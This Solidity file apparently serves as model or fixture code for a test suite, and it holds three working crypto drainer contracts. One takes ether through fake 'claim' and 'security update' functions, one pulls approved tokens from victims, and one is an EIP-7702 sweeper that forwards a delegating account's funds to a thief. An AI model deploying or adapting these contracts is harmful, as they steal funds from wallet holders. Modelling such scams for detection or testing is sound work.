// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Token} from "./Token.sol";

/// Stands for the "claim your airdrop" and "security update" contracts: payable words, and a way out for one man.
contract ClaimDrainer {
    address payable private immutable _thief;

    constructor(address payable thief) {
        _thief = thief;
    }

    function claim() external payable {}

    function securityUpdate() external payable {}

    function withdraw() external {
        require(msg.sender == _thief, "not you");
        (bool done,) = _thief.call{value: address(this).balance}("");
        require(done, "not paid");
    }
}

/// Stands for a drainer's contract that victims approve: it takes what it may, when the thief says so.
contract PullDrainer {
    address private immutable _thief;

    constructor(address thief) {
        _thief = thief;
    }

    function pull(Token token, address victim, uint256 amount) external {
        require(msg.sender == _thief, "not you");
        require(token.transferFrom(victim, _thief, amount), "not moved");
    }
}

/// Stands for the sweepers that most EIP-7702 delegations of 2025 went to: an account that delegates to it obeys
/// the thief, and passes on ether as it comes in.
contract Sweeper {
    address payable private immutable _thief;

    constructor(address payable thief) {
        _thief = thief;
    }

    receive() external payable {
        _pay(msg.value);
    }

    function sweep(Token token, uint256 value) external {
        require(msg.sender == _thief, "not you");
        require(token.transfer(_thief, token.balanceOf(address(this))), "not moved");
        _pay(value);
    }

    function _pay(uint256 value) private {
        (bool done,) = _thief.call{value: value}("");
        require(done, "not paid");
    }
}
